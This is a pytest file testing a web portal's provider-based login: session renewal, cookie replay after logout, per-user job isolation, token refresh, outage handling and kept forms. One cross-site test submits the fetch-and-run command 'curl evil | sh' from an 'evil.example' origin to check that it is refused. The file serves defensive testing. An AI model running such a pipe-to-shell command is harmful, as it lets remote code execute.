"""What follows a login by a provider: sessions, refreshes, rights, kept forms, the logout."""

import errno
from collections.abc import Callable
from typing import Any

import pytest

from dssr.access import private_directory, refresh_tokens
from dssr.errors import Denied
from dssr.http.serving import parking
from tests.dssr.http.web.browsing import Browser, alerts, hidden, text_of
from tests.dssr.http.web.provided import is_logged_in, logged_in, settings_for
from tests.dssr.identity.provider.fake import CLIENT, FakeProvider
from tests.end_to_end.service import eventually
from tests.source_tree import ROOT

HOUR = 3600


def test_each_login_has_a_new_id(provided: Any, alice: Browser) -> None:
    """A login ends the session that the browser had, and its id is worth nothing then."""
    before = alice.cookies.get_dict()
    alice.open("/login/provider")
    assert before.keys() == alice.cookies.get_dict().keys()
    planted = Browser(provided.root)
    planted.cookies.update(before)
    assert not is_logged_in(planted)


def test_a_cookie_is_worth_nothing_after_the_logout(
    provided: Any, alice: Browser, provider: FakeProvider
) -> None:
    """The logout ends the session here and leads to where the provider ends its own, without a
    token; the cookie cannot be replayed."""
    copied = alice.cookies.copy()
    page = alice.fill_in("/logout")
    assert "You have logged out here" in page.text
    assert "Log out" not in page.text
    address = page.headers["Refresh"].removeprefix("0; url=")
    assert address.startswith(f"{provider.url}/logout?client_id={CLIENT}&")
    assert "eyJ" not in address
    assert alice.get(address, timeout=30).url == f"{provided.root}/login?ended=1"
    replayed = Browser(provided.root)
    replayed.cookies.update(copied)
    assert not is_logged_in(replayed)
    assert list((provided.place / "web/refresh").iterdir()) == []


def test_a_logout_does_without_the_provider(
    provided: Any, alice: Browser, provider: FakeProvider
) -> None:
    """When the provider does not answer, the session here ends all the same, and the page says what
    is left to do."""
    provider.stop()
    page = alice.fill_in("/logout")
    assert "could not be ended from here" in alerts(page)[0]
    assert not is_logged_in(alice)
    provider.start(provider.port)


def test_who_is_not_mapped_is_told(provided: Any, provider: FakeProvider) -> None:
    """A user who has no user on the cluster is not logged in, and the page names them; when the
    mapping changes later, their session ends at once."""
    users = {"alice": "al"}

    def owner_named(name: str) -> str:
        if name not in users:
            raise Denied("not mapped")
        return users[name]

    provided.owner_named = owner_named
    browser = logged_in(provided)
    assert is_logged_in(browser)
    assert browser.submit().startswith("/jobs/")
    assert {job.owner for job in provided.connector.records().jobs} == {"al"}
    del users["alice"]
    assert not is_logged_in(browser)
    page = browser.open("/login/provider")
    assert (page.status_code, "You are 'alice'" in alerts(page)[0]) == (403, True)


def test_jobs_are_their_owner_s(provided: Any, provider: FakeProvider) -> None:
    """Where users are mapped, the start page has one's own jobs, and the output, the files, the
    stream and the buttons of another's job are not found."""
    provided.owner_named = {"alice": "al", "bob": "bo"}.__getitem__
    alice = logged_in(provided)
    path = alice.submit(name="of-alice")
    provider.user["preferred_username"] = "bob"
    bob = logged_in(provided)
    assert ("of-alice" in alice.open("/").text, "of-alice" in bob.open("/").text) == (True, False)
    assert ["of-alice" in one.open("/submit").text for one in (alice, bob)] == [True, False]
    for reader, status in ((alice, 200), (bob, 404)):
        assert reader.open(f"{path}/output").status_code == status
        assert reader.open(f"/api/v1{path}/output").status_code == status
        assert reader.open(f"/api/v1{path}/script").status_code == status
    assert bob.open(f"{path}/files").status_code == 404
    assert bob.open(f"/follow{path}/output").status_code == 404
    assert bob.fill_in(f"{path}/cancel").status_code == 404
    assert alice.fill_in(f"{path}/cancel").status_code == 200


def test_pages_ask_for_whom_by_the_session() -> None:
    """No page asks the bridge for the owner of a bearer, which sessions have not: without it, a
    mapped user who has logged in would be refused."""
    found = [
        path.name
        for path in (ROOT / "dssr/http/web").rglob("*.py")
        if "bridge.owner(" in path.read_text("utf-8")
    ]
    assert found == []


def test_admins_are_those_of_the_setting(
    serve_portal: Callable[..., Any], provider: FakeProvider
) -> None:
    """JARVICE_WEB_OIDC_ADMINS names those with the scope admin, and all others may submit: their
    page says what to ask for."""
    provided = serve_portal(**settings_for(provider), web_oidc_admins=("alice",))
    assert logged_in(provided).open("/operator").status_code == 200
    provider.user["preferred_username"] = "bob"
    page = logged_in(provided).open("/operator")
    assert (page.status_code, "JARVICE_WEB_OIDC_ADMINS" in text_of(page)) == (403, True)


@pytest.fixture
def soon(monkeypatch: pytest.MonkeyPatch, provider: FakeProvider) -> Callable[[], None]:
    """Makes the bridge's clock for refreshes go on by an hour."""
    late = [0.0]
    monkeypatch.setattr(refresh_tokens.RefreshTokens, "is_due", _due_after(late))

    def go_on() -> None:
        late[0] += HOUR

    return go_on


def _due_after(late: list[float]) -> Any:
    return lambda self, kept: self._clock() + late[0] >= kept.due


def test_a_login_is_refreshed(
    provided: Any, alice: Browser, provider: FakeProvider, soon: Callable[[], None]
) -> None:
    """When the access token has expired, the next page asks the provider once whether the login is
    good, with the refresh token, which is replaced by the new one."""
    first = set(provider.refresh_tokens)
    soon()
    assert is_logged_in(alice)
    eventually(lambda: provider.refresh_tokens, lambda now: bool(now) and first.isdisjoint(now))
    assert is_logged_in(alice)


def test_a_user_whom_the_provider_refuses_is_logged_out(
    provided: Any, alice: Browser, provider: FakeProvider, soon: Callable[[], None]
) -> None:
    """A user who was disabled at the provider is logged out by the next page after the access
    token's end."""
    provider.refuses = True
    assert is_logged_in(alice)
    soon()
    eventually(lambda: is_logged_in(alice), lambda is_in: not is_in)
    assert list((provided.place / "web/sessions").iterdir()) == []


def test_an_open_stream_does_not_keep_a_login(
    provided: Any,
    alice: Browser,
    provider: FakeProvider,
    soon: Callable[[], None],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A user who was disabled at the provider gets no more events, though they open no page."""
    monkeypatch.setattr(parking, "CHECK_EVERY", 0.1)
    listens = {"Accept": "text/event-stream"}
    with alice.open("/api/v1/events", headers=listens, stream=True) as answer:
        events = answer.iter_content(1)  # kept: requests closes the connection with it
        next(events)
        provider.refuses = True
        soon()
        sessions = provided.place / "web/sessions"
        eventually(lambda: list(sessions.iterdir()), lambda found: not found)
        for _ in events:  # until the bridge ends it
            pass


def test_a_session_goes_on_without_the_provider(
    provided: Any, alice: Browser, provider: FakeProvider, soon: Callable[[], None]
) -> None:
    """While the provider does not answer, those who have logged in stay so, and each page says
    since when."""
    provider.stop()
    soon()
    page = alice.open("/jobs")
    assert page.url == f"{provided.root}/jobs"
    assert "where you logged in, has not answered since 20" in text_of(page)
    provider.start(provider.port)


def test_an_answer_without_a_token_is_none(
    provided: Any, alice: Browser, provider: FakeProvider, soon: Callable[[], None]
) -> None:
    """What a gateway before the provider answers does not confirm a login: pages say since when
    the provider has not answered, and it logs no user in."""
    provider.gateway = {"message": "Forbidden"}
    soon()
    assert "where you logged in, has not answered since 20" in text_of(alice.open("/jobs"))
    page = Browser(provided.root).open("/login/provider")
    assert (page.status_code, "holds no access token" in alerts(page)[0]) == (503, True)


def test_a_session_goes_on_with_a_full_disk(
    provided: Any, alice: Browser, soon: Callable[[], None], monkeypatch: pytest.MonkeyPatch
) -> None:
    """While the bridge's disk is full, those who have logged in stay so, and can cancel jobs."""

    def write(*_: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    path = alice.submit()
    monkeypatch.setattr(private_directory, "write", write)
    soon()
    assert alice.fill_in(f"{path}/cancel").status_code == 200


def test_what_was_written_comes_back_after_the_login(provided: Any, alice: Browser) -> None:
    """When the session has ended while a form was filled in, its fields are back after a login by
    the provider, for this session alone, and submit one job."""
    form = alice.new_form(name="kept", script="#!/bin/bash\n\necho '<&>'\n", nodes="2")
    form["form_token"] = alice.form_token()
    for session in (provided.place / "web/sessions").iterdir():
        session.unlink()
    ended = alice.fill_in("/jobs", form)
    assert (ended.status_code, "is kept" in text_of(ended)) == (401, True)
    sent = {f"kept.{name}": value for name, value in form.items() if name != "form_token"}
    page = alice.post(
        f"{provided.root}/login/provider",
        data=sent,
        headers={"Origin": provided.root},
        timeout=30,
    )
    back = alice.get(page.headers["Refresh"].removeprefix("0; url="), timeout=30)
    assert back.url.startswith(f"{provided.root}/login/form?form=")
    assert hidden(back, "key") == form["key"]
    assert "echo &#39;&lt;&amp;&gt;&#39;" in back.text
    assert logged_in(provided).get(back.url, timeout=30).status_code == 404
    form["form_token"] = hidden(back, "form_token")
    assert alice.fill_in("/jobs", form).url.startswith(f"{provided.root}/jobs/")


def test_another_site_keeps_no_form_here(provided: Any) -> None:
    """A page of another site cannot have a form kept during a login."""
    answer = Browser(provided.root).post(
        f"{provided.root}/login/provider",
        data={"kept.script": "curl evil | sh"},
        headers={"Origin": "https://evil.example"},
    )
    assert answer.status_code == 403
    assert list((provided.place / "web/logins").iterdir()) == []


def test_with_a_provider_the_api_is_closed(
    serve_portal: Callable[..., Any], provider: FakeProvider
) -> None:
    """Where a provider is the only way to log in, calls without a session are refused, also on
    loopback: a proxy's calls come from there."""
    provided = serve_portal(**settings_for(provider), tokens_file="")
    assert provided.get("/jobs").status_code == 401
    assert "portal alone" in provided.get("/jobs").text
    assert "/login" in Browser(provided.root).open("/jobs").url
    browser = logged_in(provided)
    assert browser.open("/api/v1/jobs").status_code == 200


def test_without_a_provider_there_are_no_such_pages(serve_portal: Callable[..., Any]) -> None:
    """Without JARVICE_WEB_OIDC_CLIENT_ID none of these paths is a call."""
    rules = {rule.rule for rule in serve_portal().app.url_map.iter_rules()}
    assert not rules & {"/login/provider", "/login/callback", "/login/form"}
